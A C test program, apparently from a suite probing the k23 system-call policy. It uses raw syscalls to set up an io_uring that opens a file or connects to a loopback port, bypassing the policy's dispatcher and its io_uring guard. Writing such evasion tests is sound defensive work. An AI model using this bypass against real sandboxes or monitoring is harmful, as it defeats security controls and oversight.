/* policy_attack_uring.c - an openat or a TCP connect through an io_uring set up with raw system calls made where the attacker chooses.
 *
 *   policy_attack_uring HOW open PATH | connect PORT
 * HOW: libc | text:ADDR | rwx (policy_attack.h): io_uring_setup, the
 * ring's mmaps and io_uring_enter are all made there, so with text:ADDR
 * none of them passes k23's dispatcher (nor its io_uring guard), and the
 * operation itself is performed by the kernel with no system call at all.
 * Prints "io_uring open: ok FIRST-LINE" (the file read through plain
 * read(2) on the descriptor the ring returned), "io_uring connect: ok", or
 * the errno name the completion carries.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <linux/io_uring.h>
#include "policy_attack.h"

int main(int argc, char **argv)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct io_uring_params p;
	struct io_uring_sqe *sqe;
	struct io_uring_cqe *cqe;
	unsigned *sq_tail, *sq_array, *cq_head, *cq_tail;
	char *ring, *sqes;
	size_t ring_sz;
	long fd, r, s = -1;

	if (argc != 4 || attack_how(argv[1]))
		return fprintf(stderr, "usage: policy_attack_uring HOW open PATH | connect PORT\n"), 2;
	memset(&p, 0, sizeof(p));
	fd = attack_call(SYS_io_uring_setup, 4, (long)&p, 0, 0, 0, 0);
	if (fd < 0)
		return printf("io_uring_setup: %s\n", attack_err(fd)), 0;
	ring_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	if (p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe) > ring_sz)
		ring_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (!(p.features & IORING_FEAT_SINGLE_MMAP))
		return printf("io_uring: kernel without IORING_FEAT_SINGLE_MMAP\n"), 1;
	ring = (char *)attack_call(SYS_mmap, 0, (long)ring_sz, PROT_READ | PROT_WRITE,
				   MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQ_RING);
	sqes = (char *)attack_call(SYS_mmap, 0, (long)(p.sq_entries * sizeof(struct io_uring_sqe)),
				   PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
	if ((unsigned long)ring > -4096UL || (unsigned long)sqes > -4096UL)
		return printf("io_uring mmap failed\n"), 1;
	sq_tail = (unsigned *)(ring + p.sq_off.tail);
	sq_array = (unsigned *)(ring + p.sq_off.array);
	cq_head = (unsigned *)(ring + p.cq_off.head);
	cq_tail = (unsigned *)(ring + p.cq_off.tail);

	sqe = (struct io_uring_sqe *)sqes;
	memset(sqe, 0, sizeof(*sqe));
	if (!strcmp(argv[2], "open")) {
		sqe->opcode = IORING_OP_OPENAT;
		sqe->fd = AT_FDCWD;
		sqe->addr = (unsigned long)argv[3];
		sqe->open_flags = O_RDONLY;
	} else {
		s = socket(AF_INET, SOCK_STREAM, 0);
		sin.sin_port = htons((unsigned short)atoi(argv[3]));
		sqe->opcode = IORING_OP_CONNECT;
		sqe->fd = (int)s;
		sqe->addr = (unsigned long)&sin;
		sqe->off = sizeof(sin);
	}
	sq_array[*sq_tail & (p.sq_entries - 1)] = 0;
	__atomic_store_n(sq_tail, *sq_tail + 1, __ATOMIC_RELEASE);
	r = attack_call(SYS_io_uring_enter, fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
	if (r < 0)
		return printf("io_uring_enter: %s\n", attack_err(r)), 0;
	if (__atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) == *cq_head)
		return printf("io_uring: no completion\n"), 1;
	cqe = (struct io_uring_cqe *)(ring + p.cq_off.cqes) + (*cq_head & (p.cq_entries - 1));
	r = cqe->res;
	if (r < 0) {
		printf("io_uring %s: %s\n", argv[2], attack_err(r));
	} else if (!strcmp(argv[2], "open")) {
		char buf[128] = "";
		long n = read((int)r, buf, sizeof(buf) - 1);

		buf[n > 0 ? n : 0] = 0;
		buf[strcspn(buf, "\n")] = 0;
		printf("io_uring open: ok %s\n", buf);
	} else {
		printf("io_uring connect: ok\n");
	}
	return 0;
}
